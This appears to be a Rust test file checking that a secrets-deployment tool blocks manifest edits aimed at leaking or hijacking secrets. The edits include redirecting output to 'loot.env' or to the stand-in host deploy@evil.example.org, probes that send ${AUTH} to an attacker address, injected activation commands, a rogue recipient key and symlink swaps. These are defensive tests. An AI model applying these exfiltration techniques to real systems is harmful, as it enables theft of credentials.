//! Each change of authority, as a way out for a secret or a way in for a command.

use super::thief::{Victim, target};
use crate::support::sshd::script;
use crate::support::world::World;

/// These targets hold the rail `authority`, with something to write and the secret among it.
#[track_caller]
fn held(targets: &str) {
    let victim = Victim::new();
    victim.targets(targets);
    victim.holds("authority");
    victim.bait();
    victim.apply();
    victim.holds("authority");
}

#[test]
fn another_destination() {
    for file in [
        "loot.env",
        "./loot.env",
        "app.env/../loot.env",
        "manifests/loot.env",
    ] {
        held(&Victim::app(file, "AUTH, PLAIN", ""));
    }
    let victim = Victim::new();
    let absolute = victim.world.path("loot.env");
    let address = format!("{{ machine: here, path: {} }}", absolute.display());
    let usual = Victim::usual();
    victim.targets(&usual.replace("{ path: ../app.env }", &address));
    victim.holds("authority");
}

#[test]
fn another_destination_together_with_a_new_value() {
    let victim = Victim::new();
    victim.world.run_with("set AUTH", "c4nary-next").success();
    victim.targets(&Victim::app("loot.env", "AUTH, PLAIN", ""));
    victim.holds("authority");
    // put back, the new value goes where it belongs
    victim.targets(&Victim::usual());
    victim.apply().success();
    assert!(victim.world.read("app.env").contains("c4nary-next"));
    victim.nothing_came_out();
}

#[test]
fn a_host_of_the_attackers() {
    let mut victim = Victim::new();
    let bin = victim.world.path("bin");
    std::fs::create_dir(&bin).unwrap();
    let seen = victim.world.path("seen");
    let text = format!(
        "#!/bin/sh\nprintf '%s\\n' \"$@\" >>{0}\ndd bs=65536 count=1 >>{0} 2>/dev/null\nexit 255\n",
        seen.display()
    );
    script(&bin.join("ssh"), &text);
    let path = format!("{}:{}", bin.display(), std::env::var("PATH").unwrap());
    victim.world.variable("PATH", &path);
    let far = "{ host: deploy@evil.example.org, path: /srv/app.env }";
    victim.targets(&Victim::usual().replace("{ path: ../app.env }", far));
    for _ in 0..2 {
        // it cannot be read, so it is unknown before it is held
        victim
            .apply()
            .exits(1)
            .says("target app goes to file deploy@evil.example.org:/srv/app.env");
        victim.run("doctor");
        victim.nothing_came_out();
    }
    assert!(seen.exists(), "it was looked at, without a secret");
}

#[test]
fn another_dialect_or_another_part_of_the_file() {
    let usual = Victim::usual();
    for address in [
        "{ path: ../app.env, format: shell }",
        "{ path: ../app.env, format: json, at: x }",
    ] {
        let victim = Victim::new();
        let before = victim.world.read("app.env");
        victim.targets(&usual.replace("{ path: ../app.env }", address));
        victim.bait();
        let run = victim.apply();
        assert!([1, 3].contains(&run.code), "{}", run.all());
        run.says("target app").says("(held)");
        victim.nothing_came_out();
        assert_eq!(victim.world.read("app.env"), before);
    }
}

#[test]
fn a_new_target() {
    held(&(Victim::usual() + &target("more", "loot.env", "AUTH", "")));
    // one that only seems to have nothing to hide
    held(
        &(Victim::usual()
            + &target(
                "more",
                "loot.env",
                "{ BANNER: { template: \"<${AUTH}>\" } }",
                "",
            )),
    );
}

#[test]
fn a_target_under_another_name() {
    let moved = Victim::app("loot.env", "AUTH, PLAIN", "");
    held(&moved.replace("  app:\n", "  app2:\n"));
    // and the known name for something harmless
    let swapped = target("app", "web.env", "PLAIN", "")
        + &target("web", "loot.env", "AUTH, PLAIN", "")
        + &target("db", "db.env", "DB", "");
    held(&swapped);
}

#[test]
fn a_secret_on_one_more_target() {
    for uses in [
        "PLAIN, DB",
        "PLAIN, { LOG_LEVEL: { from: DB } }",
        "PLAIN, { LOG_LEVEL: { template: \"level-${DB|base64}\" } }",
        "PLAIN, BANNER",
    ] {
        let victim = Victim::new();
        victim.edit(|text| {
            let banner = "\nvariables:\n  BANNER: { template: \"${INNER}\" }\n\n  INNER: { template: \"${DB}\" }\n\n";
            text.replace("\nvariables:\n", banner)
        });
        let usual = Victim::usual();
        let web = target("web", "web.env", "PLAIN", "");
        victim.targets(&usual.replace(&web, &target("web", "web.env", uses, "")));
        victim.holds("authority");
        assert_eq!(victim.world.read("web.env"), "PLAIN=hello\n", "{uses}");
    }
}

#[test]
fn a_clear_variable_that_becomes_a_template_with_a_secret_in_it() {
    let victim = Victim::new();
    victim.edit(|text| text.replace("  PLAIN: hello\n", "  PLAIN: { template: \"${DB}\" }\n"));
    victim.holds("authority");
    assert_eq!(victim.world.read("web.env"), "PLAIN=hello\n");
}

#[test]
fn a_ciphertext_under_another_name() {
    let victim = Victim::new();
    let text = victim.manifest();
    let secret = text.lines().skip_while(|line| *line != "  DB:").nth(1);
    let stolen = format!("  PLAIN:\n{}\n", secret.unwrap());
    victim.edit(|text| text.replace("  PLAIN: hello\n", &stolen));
    for _ in 0..2 {
        victim.apply().exits(1);
        victim.nothing_came_out();
    }
    assert_eq!(victim.world.read("web.env"), "PLAIN=hello\n");
}

#[test]
fn a_secret_that_becomes_clear() {
    let victim = Victim::new();
    let text = victim.manifest();
    let mut lines = text.lines().skip_while(|line| *line != "  AUTH:");
    let sealed = format!("  AUTH:\n{}\n", lines.nth(1).unwrap());
    victim.edit(|text| text.replace(&sealed, "  AUTH: known-to-all\n"));
    victim.holds("authority");
    assert!(victim.world.read("app.env").contains("c4nary-auth"));
}

#[test]
fn a_reader_who_was_not_asked() {
    let victim = Victim::new();
    let attacker = World::with_env("AUTH=x\n");
    let theirs = attacker.read("manifests/dev.yaml");
    let key = theirs.lines().find(|line| line.contains("age1")).unwrap();
    victim.edit(|text| text.replace("\nrecipients:\n", &format!("\nrecipients:\n{key}\n")));
    victim.bait();
    victim.holds("recipients");
    // with a header and a key that they made
    let end = |text: &str| text[text.find("\nkey: ").unwrap()..].to_owned();
    let own = end(&victim.manifest());
    victim.edit(|text| text.replace(&own, &end(&theirs)));
    for _ in 0..2 {
        let run = victim.apply();
        assert!([1, 3].contains(&run.code), "{}", run.all());
        victim.nothing_came_out();
    }
    assert_eq!(victim.world.read("web.env"), "PLAIN=hello\n");
}

#[test]
fn a_command_as_activation() {
    let victim = Victim::new();
    let command = victim.command();
    for more in [
        format!("    activate: {command}\n"),
        format!("    activate: {{ command: \"{command}\", timeout: 5s }}\n"),
    ] {
        victim.targets(&Victim::app("app.env", "AUTH, PLAIN", &more));
        victim.bait();
        victim.holds("authority");
    }
}

#[test]
fn a_probe_that_sends_or_runs() {
    let victim = Victim::new();
    let (command, address) = (victim.command(), victim.address());
    for probe in [
        format!("{{ http: \"{address}\", header: {{ X-Auth: \"${{AUTH}}\" }}, timeout: 1s }}"),
        format!("{{ http: \"{address}?q=${{AUTH|url}}\", timeout: 1s }}"),
        format!("{{ http: \"{address}\", method: post, body: \"${{AUTH}}\", timeout: 1s }}"),
        format!("{{ command: \"{command}\" }}"),
        format!("{{ command: \"{command}\", from: target }}"),
    ] {
        let more = format!("    probe: {probe}\n");
        victim.targets(&Victim::app("app.env", "AUTH, PLAIN", &more));
        victim.bait();
        victim.holds("authority");
    }
    // what another target has cannot be named at all
    let more = format!("    probe: {{ http: \"{address}\", header: {{ X-Auth: \"${{DB}}\" }} }}\n");
    victim.targets(&Victim::app("app.env", "AUTH, PLAIN", &more));
    victim.apply().exits(1);
    victim.nothing_came_out();
}

#[test]
fn a_place_that_became_a_link() {
    let victim = Victim::new();
    let loot = victim.world.path("loot.env");
    std::fs::remove_file(victim.world.app()).unwrap();
    std::os::unix::fs::symlink(&loot, victim.world.app()).unwrap();
    victim.apply().exits(1);
    victim.nothing_came_out();
    for text in ["", "PLAIN=hello\n"] {
        std::fs::write(&loot, text).unwrap();
        victim.holds("identity");
    }
}

#[test]
fn a_folder_that_became_a_link() {
    let victim = Victim::new();
    let (deploy, loot) = (victim.world.path("deploy"), victim.world.path("loot"));
    std::fs::create_dir(&deploy).unwrap();
    std::fs::create_dir(&loot).unwrap();
    victim.targets(&Victim::app("deploy/app.env", "AUTH, PLAIN", ""));
    victim.run("apply --yes --allow authority@app").success();
    std::fs::rename(deploy.join("app.env"), victim.world.path("kept")).unwrap();
    std::fs::remove_dir(&deploy).unwrap();
    std::os::unix::fs::symlink(&loot, &deploy).unwrap();
    for text in ["", "PLAIN=hello\n"] {
        std::fs::write(loot.join("app.env"), text).unwrap();
        for _ in 0..2 {
            victim.apply().exits(3).says("held by identity:");
            assert_eq!(victim.world.read("loot/app.env"), text);
        }
    }
}
